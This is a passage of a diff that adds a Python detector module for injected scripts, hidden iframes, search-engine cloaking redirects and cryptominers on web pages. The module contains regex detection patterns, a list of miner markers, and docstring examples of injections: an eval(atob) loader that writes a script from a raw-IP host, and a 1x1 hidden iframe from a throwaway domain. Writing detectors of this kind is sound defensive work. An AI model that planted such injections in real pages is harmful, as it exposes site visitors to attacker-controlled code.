@@ -1,0 +1,965 @@
+"""Injected scripts, iframes and redirects (SEO3xx).
+
+Attackers who can write to a page add a script rather than text: an obfuscated loader
+(``eval(atob(...))``, Dean Edwards' packer, ``\\x`` escape chains, ``String.fromCharCode``
+lists) that writes a ``<script src>`` or an iframe from a throwaway domain, a redirect of
+visitors who arrive from a search engine (cloaking: the owner, who types the address, never
+sees it), a 1x1 iframe, a cryptominer, or a script pasted before ``<html>`` or after
+``</html>``.
+
+Pages are full of legitimate scripts that use the same tools: analytics and tag-manager
+snippets build ``<script>`` elements, ad loaders ``document.write`` them, email protectors
+``eval(unescape(...))`` an address, minified bundles are dense and unreadable, A/B testing
+and consent managers read cookies and the referrer. So obfuscation alone is not the signal:
+this module decodes what it can (base64, percent- and ``\\x``-escapes, ``fromCharCode``,
+packer) and asks what the code *does*: write a resource or send the visitor to a host that is
+neither the page's site, nor a sister site, nor in the bundled list of common third-party
+hosts (``detector/data/known_hosts.txt``), under a search-engine or user-agent condition.
+
+Cost: script bodies are only searched after cheap substring prefilters; JSON, templates and
+other non-executable script types are skipped; very large bodies (bundles) are inspected at
+their start and end only.
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import math
+import re
+from dataclasses import dataclass
+from functools import lru_cache
+from importlib import resources
+from urllib.parse import unquote
+
+from detector.detectors import Detector
+from detector.domains import host_of, registered_domain, split_host
+from detector.findings import Finding
+from detector.page import Page
+from detector.patterns import rx
+
+# --------------------------------------------------------------------------- known hosts
+
+
+def _read_known_hosts() -> str:
+    return resources.files("detector.data").joinpath("known_hosts.txt").read_text("utf-8")
+
+
+def parse_known_hosts(raw: str) -> frozenset[str]:
+    """Registered domains listed in a known-hosts file (``#`` comments, one entry a line).
+
+    Entries are normalised to their registered domain, so a host written by mistake
+    (``www.youtube.com``) still means its site.
+    """
+    out = set()
+    for line in raw.splitlines():
+        entry = line.split("#", 1)[0].strip().lower().rstrip(".")
+        if entry:
+            out.add(registered_domain(entry) or entry)
+    return frozenset(out)
+
+
+@lru_cache(maxsize=1)
+def known_domains() -> frozenset[str]:
+    """The bundled list of third-party domains almost every site loads."""
+    return parse_known_hosts(_read_known_hosts())
+
+
+@lru_cache(maxsize=65536)
+def is_known_domain(domain: str) -> bool:
+    """True for a listed domain and for names under one (``d1x.cloudfront.net``, whose
+    registered domain is itself because cloudfront.net is a private public suffix)."""
+    if not domain:
+        return False
+    known = known_domains()
+    d = domain
+    while True:
+        if d in known:
+            return True
+        i = d.find(".")
+        if i < 0 or d.count(".") < 1:
+            return False
+        d = d[i + 1:]
+        if "." not in d:
+            return False
+
+
+# --------------------------------------------------------------------------- host shapes
+
+# TLDs that are cheap or free to register and over-represented among throwaway malware
+# and spam hosts (Spamhaus/Interisle "most abused TLD" reports). Only ever a corroborating
+# signal: plenty of honest sites live there.
+ABUSED_TLDS = frozenset((
+    "top", "xyz", "club", "online", "site", "pw", "tk", "ml", "ga", "cf", "gq", "icu", "buzz", "rest", "fun",
+    "space", "win", "bid", "loan", "work", "click", "link", "su", "cc", "ws", "monster", "cyou", "sbs", "cfd",
+    "bar", "uno", "live", "store", "shop", "vip", "best", "today", "host", "press", "date", "racing", "review",
+    "stream", "download", "trade", "accountant", "party", "science", "men", "kim", "country", "gdn", "mom",
+    "lol", "quest", "cam", "surf", "zip", "mov",
+))
+MINER_MARKERS = ("coinhive", "coin-hive", "authedmine", "crypto-loot", "cryptoloot", "coinimp", "jsecoin",
+                 "webminepool", "minero.cc", "deepminer", "cryptonight", "monerominer", "webmine.", "coinhave",
+                 "ppoi.org", "minr.pw", "2giga.link", "coin-have")
+_IPV4 = rx("SEO302.ipv4", r"\d{1,3}+(?:\.\d{1,3}+){3}", worst_case="1.1.")
+_HEX_PATH = rx("SEO302.hex_path", r"/[0-9a-f]{24,}+(?:[/.?]|$)", re.IGNORECASE, worst_case="/aaaa")
+_VOWELS = frozenset("aeiouy")
+
+
+@lru_cache(maxsize=65536)
+def host_shape(host: str) -> tuple[str, ...]:
+    """Reasons a host looks like a throwaway one: raw IP, abused TLD, random-looking label."""
+    if not host:
+        return ()
+    if _IPV4.fullmatch(host):
+        if host.startswith(("10.", "192.168.", "127.")) or (host.startswith("172.") and 16 <= int(host.split(".")[1]) <= 31):
+            return ("private IP address",)  # an intranet leftover, not an attacker's server
+        return ("raw IP address",)
+    sub, label, suffix = split_host(host)
+    out = []
+    tld = suffix.rsplit(".", 1)[-1] if suffix else ""
+    if tld in ABUSED_TLDS:
+        out.append(f"cheap TLD .{tld}")
+    if not suffix:
+        out.append("no public suffix")
+    lab = label.replace("-", "")
+    if len(lab) >= 8:
+        letters = [c for c in lab if c.isalpha()]
+        digits = sum(c.isdigit() for c in lab)
+        if letters:
+            vowel_share = sum(c in _VOWELS for c in letters) / len(letters)
+            if vowel_share < 0.18 or (len(lab) >= 12 and vowel_share < 0.25):
+                out.append("random-looking name")
+            elif digits >= 3 and len(letters) >= 3 and _transitions(lab) >= 3:
+                out.append("random-looking name")
+    return tuple(out)
+
+
+def _transitions(s: str) -> int:
+    n = 0
+    for a, b in zip(s, s[1:]):
+        if a.isdigit() != b.isdigit():
+            n += 1
+    return n
+
+
+STRONG_SHAPES = ("raw IP address", "cheap TLD", "port ")
+
+
+def strong_shape(shape) -> int:
+    """How many of a resource's shape reasons are strong (IP host, abused TLD, odd port).
+
+    A random-looking name or a long hex path alone is common in ad tech (anti-adblock
+    domains, hashed bundle names) and only corroborates.
+    """
+    return sum(1 for r in shape if r.startswith(STRONG_SHAPES))
+
+
+def url_shape(url: str, host: str) -> list[str]:
+    out = list(host_shape(host))
+    i = url.find("//")
+    if i >= 0:
+        rest = url[i + 2:]
+        netloc = rest.split("/", 1)[0]
+        if ":" in netloc and not netloc.startswith("["):
+            port = netloc.rsplit(":", 1)[1]
+            if port.isdigit() and port not in ("80", "443", "8080"):
+                out.append(f"port {port}")
+        if _HEX_PATH.search(rest):
+            out.append("long hex path")
+    return out
+
+
+@lru_cache(maxsize=65536)
+def _label(domain: str) -> str:
+    return split_host(domain)[1] if domain else ""
+
+
+@lru_cache(maxsize=65536)
+def related(site: str, domain: str) -> bool:
+    """Same owner as far as names tell (site itself, sister TLD, shared brand label)."""
+    if not domain:
+        return True
+    if not site:
+        return False
+    if site == domain:
+        return True
+    a, b = _label(site).replace("-", ""), _label(domain).replace("-", "")
+    if not a or not b:
+        return False
+    short, long_ = sorted((a, b), key=len)
+    if len(short) >= 3 and short in long_:
+        return True
+    n = 0
+    for x, y in zip(a, b):
+        if x != y:
+            break
+        n += 1
+    return n >= 4
+
+
+def foreign(site: str, domain: str) -> bool:
+    """An unrelated domain that is not common third-party infrastructure."""
+    return bool(domain) and not related(site, domain) and not is_known_domain(domain)
+
+
+# --------------------------------------------------------------------------- script text
+
+EXECUTABLE_TYPES = frozenset(("", "text/javascript", "application/javascript", "module", "text/ecmascript",
+                              "application/ecmascript", "application/x-javascript", "text/jscript",
+                              "text/livescript", "javascript"))
+MAX_BODY = 32_000  # bodies longer than this (bundles, app state) are inspected at both ends
+
+
+def _view(body: str) -> str:
+    if len(body) <= MAX_BODY:
+        return body
+    half = MAX_BODY // 2
+    return body[:half] + "\n;\n" + body[-half:]
+
+
+_DECODE_CALL = rx(
+    "SEO301.decode_call",
+    r"""\b(eval|Function|setTimeout|setInterval|document\.write(?:ln)?+|execScript)\s*+\(\s*+"""
+    r"""(?:window\.)?+(atob|unescape|decodeURIComponent|decodeURI|String\.fromCharCode|escape)\s*+\(""",
+    worst_case="eval(eval(",
+)
+_PACKER = rx(
+    "SEO301.packer",
+    r"""\beval\s*+\(\s*+function\s*+\(\s*+p\s*+,\s*+a\s*+,\s*+c\s*+,\s*+k\s*+,\s*+e\s*+,\s*+[rd]\s*+\)""",
+    worst_case="eval(function(p,a,",
+)
+_PACKED_ARGS = rx(
+    "SEO301.packed_args",
+    r"""\}\s*+\(\s*+'((?:[^'\\]|\\.){0,120000}+)'\s*+,\s*+(\d{1,3}+)\s*+,\s*+(\d{1,6}+)\s*+,\s*+"""
+    r"""'((?:[^'\\]|\\.){0,120000}+)'\s*+\.split\(\s*+'\|'""",
+    re.DOTALL,
+    worst_case="}('\\'",
+)
+_ATOB_LIT = rx(
+    "SEO301.atob_literal",
+    r"""\batob\s*+\(\s*+["']([A-Za-z0-9+/=\s\\]{16,200000}+)["']""",
+    worst_case="atob('AAAA",
+)
+_UNESCAPE_LIT = rx(
+    "SEO301.unescape_literal",
+    r"""\b(?:unescape|decodeURIComponent|decodeURI)\s*+\(\s*+["']([^"'\\]{6,200000}+)["']""",
+    worst_case="unescape('%41",
+)
+_CHARCODES = rx(
+    "SEO301.fromcharcode",
+    r"""fromCharCode\s*+\(\s*+((?:\d{1,6}+\s*+,\s*+){4,}+\d{1,6}+)\s*+\)""",
+    worst_case="fromCharCode(1,",
+)
+_ESCAPE_RUN = rx(
+    "SEO301.escape_run",
+    r"""(?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\[0-7]{3}){8,}+""",
+    worst_case="\\x41",
+)
+_ESCAPE_ONE = rx("SEO301.escape_one", r"""\\x([0-9a-fA-F]{2})|\\u([0-9a-fA-F]{4})|\\([0-7]{3})""", worst_case="\\x4")
+_LONG_B64 = rx("SEO301.long_b64", r"""["'][A-Za-z0-9+/]{400,}+={0,2}+["']""", worst_case="'AAAA")
+
+_WRITE_RESOURCE = rx(
+    "SEO302.write_resource",
+    r"""<\s*+(?:script|iframe|frame|embed|object)\b[^>]{0,400}?\bsrc\s*+=\s*+\\?+["']?+\s*+((?:https?:)?//[^"'\s>\\]{3,300}+)""",
+    re.IGNORECASE,
+    worst_case="<script src=",
+)
+_CREATE_SCRIPT = rx(
+    "SEO302.create_element",
+    r"""createElement\s*+\(\s*+["'](script|iframe)["']\s*+\)""",
+    re.IGNORECASE,
+    worst_case="createElement('",
+)
+_URL_LIT = rx(
+    "SEO302.url_literal",
+    r"""(?:https?:|(?<=["'`=(]))//([A-Za-z0-9](?:[A-Za-z0-9-]{0,62}+\.){1,10}+[A-Za-z0-9-]{2,63}+)(?::(\d{2,5}+))?+""",
+    worst_case="'//a.",
+)
+_REDIRECT = rx(
+    "SEO303.redirect",
+    r"""\b(?:(?:window|top|self|parent|document)\s*+\.\s*+)?+location(?:\s*+\.\s*+href)?+\s*+=(?!=)"""
+    r"""|\blocation\s*+\.\s*+(?:replace|assign)\s*+\("""
+    r"""|\bwindow\s*+\.\s*+(?:navigate|open)\s*+\(""",
+    worst_case="location.location=",
+)
+_ENGINES = rx(
+    "SEO303.search_engines",
+    r"""google|bing\b|bing\.|yahoo|yandex|baidu|\baol\b|ask\.com|msn\.|duckduckgo|naver|sogou|so\.com|seznam""",
+    re.IGNORECASE,
+    worst_case="goog",
+)
+_BOTS = rx(
+    "SEO303.bot_names",
+    r"""googlebot|bingbot|slurp|baiduspider|yandexbot|yandex|msnbot|duckduckbot|\bbot\b|crawler|spider|lighthouse""",
+    re.IGNORECASE,
+    worst_case="googl",
+)
+_MOBILE = rx("SEO303.mobile_ua", r"""android|iphone|ipad|mobile|blackberry|opera mini|windows phone""",
+             re.IGNORECASE, worst_case="andro")
+_META_REFRESH = rx(
+    "SEO303.meta_refresh",
+    r"""^\s*+(\d{1,6}+)(?:\.\d++)?+\s*+(?:[;,]\s*+(?:url\s*+=\s*+)?+["']?+([^"'\s]{1,2000}+))?+""",
+    re.IGNORECASE,
+    worst_case="0;url=",
+)
+_HTML_OPEN = rx("SEO302.html_open", r"<html\b", re.IGNORECASE, worst_case="<htm")
+_HTML_CLOSE = rx("SEO302.html_close", r"</html\s*+>", re.IGNORECASE, worst_case="</html ")
+_TAG_SCRIPTISH = rx("SEO302.scriptish", r"<(?:script|iframe)\b", re.IGNORECASE, worst_case="<scrip")
+
+
+def _decode_escapes(s: str) -> str:
+    def sub(m: re.Match) -> str:
+        v = m.group(1) or m.group(2)
+        n = int(v, 16) if v else int(m.group(3), 8)
+        return chr(n) if n < 0x110000 else ""
+
+    return _ESCAPE_ONE.sub(sub, s)
+
+
+_DIGITS = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+_DIGIT_VALUE = {c: i for i, c in enumerate(_DIGITS)}
+_WORD = rx("SEO301.packer_word", r"\b\w++\b", worst_case="a ")
+
+
+def unpack_packer(payload: str, radix: int, count: int, words: str) -> str:
+    """Undo Dean Edwards' packer: replace base-`radix` tokens by their dictionary words."""
+    keys = words.split("|")
+    if radix < 2 or radix > 62:
+        return ""
+    payload = payload.replace("\\'", "'").replace("\\\\", "\\")
+
+    def sub(m: re.Match) -> str:
+        tok = m.group(0)
+        n = 0
+        for ch in tok:
+            d = _DIGIT_VALUE.get(ch)
+            if d is None or d >= radix:
+                return tok
+            n = n * radix + d
+        if n < len(keys) and keys[n]:
+            return keys[n]
+        return tok
+
+    return _WORD.sub(sub, payload[:120_000])
+
+
+def decode_layers(js: str) -> tuple[list[str], list[str]]:
+    """What an obfuscated script hides: decoded payloads, and the techniques found."""
+    payloads: list[str] = []
+    techniques: list[str] = []
+    if "eval" in js and "p,a,c,k,e," in js.replace(" ", "")[:200000]:
+        for m in _PACKED_ARGS.finditer(js):
+            try:
+                out = unpack_packer(m.group(1), int(m.group(2)), int(m.group(3)), m.group(4))
+            except (ValueError, IndexError):
+                out = ""
+            if out:
+                payloads.append(out)
+                techniques.append("packer")
+    if "atob" in js:
+        for m in _ATOB_LIT.finditer(js):
+            raw = m.group(1).replace("\\n", "").replace("\\", "")
+            raw = "".join(raw.split())
+            try:
+                dec = base64.b64decode(raw + "=" * (-len(raw) % 4), validate=False).decode("utf-8", "replace")
+            except (binascii.Error, ValueError):
+                continue
+            payloads.append(dec)
+            techniques.append("base64")
+    if "scape" in js or "decodeURI" in js:
+        for m in _UNESCAPE_LIT.finditer(js):
+            raw = m.group(1)
+            if raw.count("%") >= 3:
+                payloads.append(unquote(raw))
+                techniques.append("percent-escapes")
+    if "fromCharCode" in js:
+        for m in _CHARCODES.finditer(js):
+            try:
+                payloads.append("".join(chr(int(x)) for x in m.group(1).replace(" ", "").split(",") if int(x) < 0x110000))
+                techniques.append("fromCharCode")
+            except ValueError:
+                continue
+    if "\\x" in js or "\\u" in js or "\\1" in js:
+        runs = _ESCAPE_RUN.findall(js)
+        if runs and sum(len(r) for r in runs) >= 40:
+            payloads.append(_decode_escapes(" ".join(runs)))
+            techniques.append("escape sequences")
+    # one more layer: payloads that are themselves encoded (eval(atob(...)) inside packer ...)
+    for p in list(payloads):
+        if len(payloads) > 12:
+            break
+        if ("atob" in p or "unescape" in p or "fromCharCode" in p) and p is not js:
+            inner, tech = decode_layers(p) if len(p) < 200_000 else ([], [])
+            payloads.extend(inner[:4])
+            techniques.extend(tech[:4])
+    return payloads, techniques
+
+
+@dataclass(slots=True)
+class Intent:
+    """Something a script does that an injection would do."""
+
+    kind: str  # writes-resource | redirect | referrer-cloak | ua-cloak | miner
+    detail: str
+    url: str = ""
+    domain: str = ""
+    shape: tuple[str, ...] = ()
+
+
+def _hosts_in(js: str, limit: int = 40) -> list[tuple[str, str, str]]:
+    """(url, host, port) of URL literals in code."""
+    out = []
+    for m in _URL_LIT.finditer(js):
+        host = m.group(1).lower().rstrip(".")
+        if not split_host(host)[2] and not _IPV4.fullmatch(host):
+            continue  # no public suffix: a regex or a version string, not a host
+        out.append((m.group(0), host, m.group(2) or ""))
+        if len(out) >= limit:
+            break
+    return out
+
+
+def _foreign_target(text: str, site: str) -> tuple[str, str, tuple[str, ...]] | None:
+    """The first URL literal in `text` whose domain is foreign to the site."""
+    for url, host, port in _hosts_in(text, 10):
+        dom = registered_domain(host)
+        if dom and "." in host and foreign(site, dom):
+            shape = host_shape(host) + ((f"port {port}",) if port and port not in ("80", "443") else ())
+            return url, dom, shape
+    return None
+
+
+def _write_resource_matches(js: str, limit: int = 60):
+    """_WRITE_RESOURCE matches, searched only around the places that mention a src.
+
+    Scanning a whole minified bundle with a case-insensitive regex costs more than all the
+    rest of this module; ``str.find`` jumps from one "src" to the next at C speed.
+    """
+    pos = 0
+    n = 0
+    while n < limit:
+        i = js.find("src", pos)
+        if i < 0:
+            i = js.find("SRC", pos)
+            if i < 0:
+                return
+        n += 1
+        lo = max(pos, i - 420)
+        win = js[lo:i + 320]
+        lt = win.find("<")
+        if lt >= 0:
+            m = _WRITE_RESOURCE.search(win, lt)
+            if m:
+                yield m
+                pos = lo + m.end()
+                continue
+        pos = i + 3
+
+
+def _redirect_matches(js: str, limit: int = 50):
+    """_REDIRECT matches at the places that mention ``location``."""
+    pos = 0
+    n = 0
+    while n < limit:
+        i = js.find("location", pos)
+        if i < 0:
+            return
+        n += 1
+        lo = max(0, i - 12)
+        m = _REDIRECT.search(js, lo, i + 40)
+        if m:
+            yield m
+        pos = i + 8
+
+
+def script_intents(js: str, site: str) -> list[Intent]:
+    """What injected code typically does, found in (decoded) script text."""
+    out: list[Intent] = []
+    for m in _write_resource_matches(js):
+        url = m.group(1)
+        host = host_of(url if url.startswith("http") else "http:" + url)
+        dom = registered_domain(host) if host else ""
+        if dom and foreign(site, dom):
+            out.append(Intent("writes-resource", f"writes a <{m.group(0)[1:].split()[0].lower()}> from {host}",
+                              url, dom, tuple(url_shape(url, host))))
+        if len(out) >= 5:
+            break
+    if "createElement" in js:
+        m = _CREATE_SCRIPT.search(js)
+        if m:
+            window = js[m.start():m.start() + 1500]
+            tgt = _foreign_target(window, site)
+            if tgt:
+                out.append(Intent("writes-resource", f"creates a <{m.group(1).lower()}> loading {tgt[1]}",
+                                  tgt[0], tgt[1], tgt[2]))
+    if "location" in js:
+        for m in _redirect_matches(js):
+            after = js[m.end():m.end() + 300]
+            tgt = _foreign_target(after, site)
+            ctx = js[max(0, m.start() - 800):m.end() + 300]
+            opener = "open" in m.group(0)
+            if "referrer" in ctx and _ENGINES.search(ctx):
+                # the classic cloaking injection: only searchers are sent away. Frame-busting
+                # and same-site redirects keyed on the referrer have no foreign target.
+                t = tgt or _foreign_target(ctx, site)
+                if t:
+                    out.append(Intent("referrer-cloak", f"redirects visitors who come from a search engine to {t[1]}",
+                                      t[0], t[1], t[2]))
+                continue
+            if "userAgent" in ctx:
+                if _BOTS.search(ctx):
+                    t = tgt or _foreign_target(ctx, site)
+                    if t:
+                        out.append(Intent("ua-cloak", f"redirects depending on whether the visitor is a crawler, to {t[1]}",
+                                          t[0], t[1], t[2]))
+                    continue
+                if tgt and _MOBILE.search(ctx):
+                    out.append(Intent("mobile-redirect", f"sends phone users to {tgt[1]}", tgt[0], tgt[1], tgt[2]))
+                    continue
+            if tgt and not opener:
+                out.append(Intent("redirect", f"sends the visitor to {tgt[1]}", tgt[0], tgt[1], tgt[2]))
+            if len(out) >= 8:
+                break
+    if "nonymous" in js or "oinhive" in js:
+        low = js.lower()
+        for k in MINER_MARKERS:
+            if k in low:
+                out.append(Intent("miner", f"cryptominer marker '{k}'"))
+                break
+        else:
+            if ".anonymous(" in low and (".start(" in low and ("throttle" in low or "threads" in low)):
+                out.append(Intent("miner", "starts an anonymous mining client"))
+    return out
+
+
+# --------------------------------------------------------------------------- page analysis
+
+
+@dataclass(slots=True)
+class ScriptReport:
+    obfuscated: list = None  # (script index, techniques, payload intents, snippet)
+    obf_score: float = 0.0
+    intents: list = None  # (Intent, script index, decoded?)
+    unknown_script_domains: set = None
+    suspicious_srcs: list = None  # (url, domain, shape)
+    miner_srcs: list = None
+    outside_html: list = None  # descriptions
+    tiny_frames: list = None  # (Frame, reasons, foreign?)
+    foreign_frames: set = None
+    n_scripts: int = 0
+    n_third_party: int = 0
+    escape_density: float = 0.0
+
+
+_SRC_ATTR = rx(
+    "SEO302.src_attr",
+    r"""<(?:script|iframe)\b[^>]{0,400}?\bsrc\s*+=\s*+["']?+\s*+((?:https?:)?//[^"'\s>]{3,300}+)""",
+    re.IGNORECASE,
+    worst_case="<script src=",
+)
+
+
+def _outside(where: str, segment: str, site: str) -> list[tuple]:
+    """(where, url, foreign domain, shape, obfuscated) for code found outside <html>...</html>."""
+    segment = segment[:65536]
+    m = _DECODE_CALL.search(segment)
+    obf = bool((m and m.group(1) in ("eval", "Function", "execScript")) or _PACKER.search(segment))
+    if not obf and (m or _ESCAPE_RUN.search(segment)):
+        payloads, _ = decode_layers(segment)
+        obf = any(script_intents(p, site) for p in payloads[:6])
+    out = []
+    for m in _SRC_ATTR.finditer(segment):
+        url = m.group(1)
+        host = host_of(url if url[:4].lower() == "http" else "http:" + url)
+        dom = registered_domain(host) if host else ""
+        if dom and foreign(site, dom):
+            out.append((where, url, dom, tuple(url_shape(url, host)), obf))
+        if len(out) >= 3:
+            break
+    if not out:
+        out.append((where, "", "", (), obf))
+    return out
+
+
+def _escape_density(js: str) -> float:
+    n = js.count("\\x") + js.count("\\u0")
+    return min(1.0, 4 * n / max(1, len(js)))
+
+
+def _tiny(v: str) -> bool:
+    v = v.strip().lower().replace("px", "")
+    try:
+        return float(v) <= 2
+    except ValueError:
+        return False
+
+
+def analyse(page: Page) -> ScriptReport:
+    """Everything the SEO3xx detectors need, computed once per page."""
+    cached = getattr(page, "_seo3_report", None)
+    if cached is not None:
+        return cached
+    site = page.site
+    rep = ScriptReport([], 0.0, [], set(), [], [], [], [], set())
+    for i, s in enumerate(page.scripts):
+        if s.src:
+            rep.n_scripts += 1
+            dom = s.domain
+            if not dom:
+                continue
+            if not related(site, dom):
+                rep.n_third_party += 1
+            low_src = s.src.lower()
+            if ("coin" in low_src or "mine" in low_src or "crypt" in low_src or "minr" in low_src
+                    or "ppoi" in low_src) and any(k in low_src for k in MINER_MARKERS):
+                rep.miner_srcs.append((s.src, dom))
+            if foreign(site, dom):
+                rep.unknown_script_domains.add(dom)
+                shape = url_shape(s.src, s.host)
+                if shape:
+                    rep.suspicious_srcs.append((s.src, dom, tuple(shape)))
+            continue
+        body = s.body
+        if not body or s.type not in EXECUTABLE_TYPES and not s.type.endswith("javascript"):
+            continue
+        rep.n_scripts += 1
+        js = _view(body)
+        obf_tech: list[str] = []
+        has_eval = "eval" in js
+        if has_eval and ("p,a,c,k" in js or "p, a, c, k" in js) and _PACKER.search(js):
+            obf_tech.append("packer")
+        decoders = "atob" in js or "unescape" in js or "fromCharCode" in js or "decodeURI" in js
+        m = _DECODE_CALL.search(js) if decoders else None
+        if m:
+            obf_tech.append(f"{m.group(1)}({m.group(2)}(...))")
+        dens = _escape_density(js) if "\\x" in js else 0.0
+        rep.escape_density = max(rep.escape_density, dens)
+        if dens >= 0.5 and len(js) >= 200:
+            obf_tech.append("escape-sequence strings")
+        if has_eval and len(js) >= 400 and _LONG_B64.search(js):
+            obf_tech.append("eval with long encoded string")
+        decoded_intents: list[Intent] = []
+        if obf_tech or decoders:
+            payloads, techs = decode_layers(js)
+            for p in payloads[:12]:
+                decoded_intents.extend(script_intents(p, site))
+            if obf_tech:
+                rep.obfuscated.append((i, obf_tech + sorted(set(techs)), decoded_intents, js[:300]))
+                rep.obf_score = max(rep.obf_score, min(1.0, 0.4 + 0.2 * len(obf_tech) + (0.4 if decoded_intents else 0)))
+            for it in decoded_intents:
+                rep.intents.append((it, i, True))
+        for it in script_intents(js, site):
+            rep.intents.append((it, i, False))
+    # scripts pasted outside the document (str.find first: the tags are near the ends)
+    src = page.source
+    if src:
+        head_end = min(len(src), 65536)
+        i = src.find("<html", 0, head_end)
+        if i < 0:
+            m = _HTML_OPEN.search(src, 0, head_end) if "<HTML" in src[:head_end] or "<Html" in src[:head_end] else None
+            i = m.start() if m else -1
+        if i > 0 and _TAG_SCRIPTISH.search(src, 0, i):
+            rep.outside_html.extend(_outside("before <html>", src[:i], site))
+        tail0 = max(0, len(src) - 65536)
+        j = src.rfind("</html", tail0)
+        if j < 0:
+            m = _HTML_CLOSE.search(src, tail0) if "</HTML" in src[tail0:] or "</Html" in src[tail0:] else None
+            j = m.start() if m else -1
+        if j >= 0:
+            k = src.find(">", j)
+            if k >= 0 and _TAG_SCRIPTISH.search(src, k):
+                rep.outside_html.extend(_outside("after </html>", src[k + 1:], site))
+    for f in page.iframes:
+        dom = f.domain
+        reasons = []
+        if _tiny(f.width) and _tiny(f.height):
+            reasons.append(f"{f.width or '?'}x{f.height or '?'} px")
+        if f.hidden:
+            reasons.append(f"hidden ({f.hidden})")
+        is_foreign = foreign(site, dom)
+        if is_foreign:
+            rep.foreign_frames.add(dom)
+        if reasons and dom and not related(site, dom) and not is_known_domain(dom):
+            rep.tiny_frames.append((f, reasons, url_shape(f.src, f.host)))
+    try:
+        page._seo3_report = rep  # type: ignore[attr-defined]
+    except AttributeError:
+        pass
+    return rep
+
+
+def _tier(shape, boost: bool = False) -> tuple[str, str] | None:
+    """(severity, confidence) from a foreign resource's shape; None when it is not worth a finding."""
+    strong = strong_shape(shape)
+    weak = len(shape) - strong
+    if strong >= 2 or (strong and (weak or boost)):
+        return ("high", "medium")
+    if strong:
+        return ("medium", "low")
+    if weak and boost:
+        return ("medium", "low")
+    return None
+
+
+def _ev(it: Intent, extra: dict | None = None) -> dict:
+    ev = {"where": "script", "url": it.url, "domain": it.domain, "detail": it.detail}
+    if it.shape:
+        ev["shape"] = list(it.shape)
+    if extra:
+        ev.update(extra)
+    return ev
+
+
+class ObfuscatedScript(Detector):
+    """Obfuscated inline script that hides an injection (SEO301).
+
+    Finds inline scripts that run encoded code (``eval(atob("..."))``, ``eval(unescape("%..."))``,
+    ``eval(String.fromCharCode(...))``, Dean Edwards' ``eval(function(p,a,c,k,e,d)...)`` packer,
+    long ``\\x`` escape strings) and decodes them. The finding is strong when the decoded code
+    writes a script or iframe from, or redirects to, an unrelated and unlisted domain, or
+    cloaks by referrer or user agent; obfuscation that decodes to something harmless (an
+    e-mail address protector, an ad network's fallback) is only a feature.
+
+    Example: ``<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwOi8vMTg1LjIz..."))</script>``
+    that decodes to ``document.write('<script src="http://185.23.x.x/j.js">')``.
+    """
+
+    id = "SEO301"
+    name = "obfuscated_script"
+    kind = "script_injection"
+    features = ("obf_score", "obf_scripts_log", "obf_with_intent", "packer", "eval_decode", "escape_density")
+    html_only = frozenset(features)
+
+    def detect(self, page: Page):
+        if not page.is_html or not page.scripts:
+            return [], {}
+        rep = analyse(page)
+        findings = []
+        with_intent = 0.0
+        packer = eval_decode = 0.0
+        for idx, techs, intents, snip in rep.obfuscated:
+            if "packer" in techs:
+                packer = 1.0
+            if any(t.startswith(("eval(", "Function(", "execScript")) for t in techs):
+                eval_decode = 1.0
+            if intents:
+                with_intent = 1.0
+                it = intents[0]
+                strong = it.kind in ("referrer-cloak", "ua-cloak", "miner") or bool(it.shape) or it.kind == "writes-resource"
+                findings.append(Finding(
+                    self.id, self.kind, "high", "high" if strong else "medium",
+                    f"obfuscated inline script ({', '.join(techs[:3])}) decodes to code that {it.detail}",
+                    _ev(it, {"techniques": techs[:6], "script_index": idx, "snippet": snip}),
+                ))
+        feats = {
+            "obf_score": rep.obf_score,
+            "obf_scripts_log": math.log1p(len(rep.obfuscated)),
+            "obf_with_intent": with_intent,
+            "packer": packer,
+            "eval_decode": eval_decode,
+            "escape_density": rep.escape_density,
+        }
+        return findings, feats
+
+
+class ForeignResource(Detector):
+    """Scripts and iframes from unrelated, suspicious hosts (SEO302).
+
+    Finds what injected code loads: ``<script src>`` from hosts that are neither the page's site
+    nor a sister site nor common third-party infrastructure (``known_hosts.txt``) *and* look
+    throwaway (a raw IP address, a cheap TLD, a random-looking name, an odd port, a long hex
+    path); code that writes such a script or iframe (``document.write('<script src=...')``,
+    ``createElement('script')``); 0-2 px or hidden iframes from unrelated hosts; cryptominers
+    (Coinhive and its successors); and scripts pasted before ``<html>`` or after ``</html>``.
+    An unrelated script by itself is normal (widgets, regional analytics) and is only counted.
+
+    Example: ``<iframe src="http://qwxzkrt.top/in.php" width="1" height="1"
+    style="visibility:hidden">``.
+    """
+
+    id = "SEO302"
+    name = "foreign_resource"
+    kind = "script_injection"
+    features = ("unknown_script_domains_log", "suspicious_script_hosts", "third_party_script_share",
+                "writes_foreign_resource", "tiny_hidden_iframes_log", "tiny_foreign_iframe_suspicious",
+                "foreign_iframe_domains_log", "outside_html", "miner")
+    html_only = frozenset(features)
+
+    def detect(self, page: Page):
+        if not page.is_html:
+            return [], {}
+        rep = analyse(page)
+        findings = []
+        outside = bool(rep.outside_html)
+        for url, dom, shape in rep.suspicious_srcs[:10]:
+            tier = _tier(shape, boost=outside)
+            if tier:
+                findings.append(Finding(
+                    self.id, self.kind, tier[0], tier[1],
+                    f"script loaded from {dom}, unrelated to the site and unlisted ({', '.join(shape)})",
+                    {"where": "html", "url": url, "domain": dom, "shape": list(shape),
+                     "snippet": f'<script src="{url[:250]}">'},
+                ))
+        writes = 0.0
+        for it, idx, decoded in rep.intents:
+            if it.kind != "writes-resource" or decoded:
+                continue  # decoded ones are SEO301's
+            writes = 1.0
+            tier = _tier(it.shape, boost=outside)
+            if tier:
+                findings.append(Finding(
+                    self.id, self.kind, tier[0], tier[1],
+                    f"inline script {it.detail}, a host unrelated to the site and not a common third party"
+                    f" ({', '.join(it.shape)})",
+                    _ev(it, {"script_index": idx}),
+                ))
+        for f, reasons, shape in rep.tiny_frames[:10]:
+            tier = _tier(shape, boost=outside or bool(rep.obfuscated)) or ("low", "low")
+            findings.append(Finding(
+                self.id, self.kind, "high" if tier[0] != "low" else "low", tier[1],
+                f"{' and '.join(reasons)} iframe loading {f.domain}, unrelated to the site"
+                + (f" ({', '.join(shape)})" if shape else ""),
+                {"where": "html", "url": f.src, "domain": f.domain, "hiding": "; ".join(reasons),
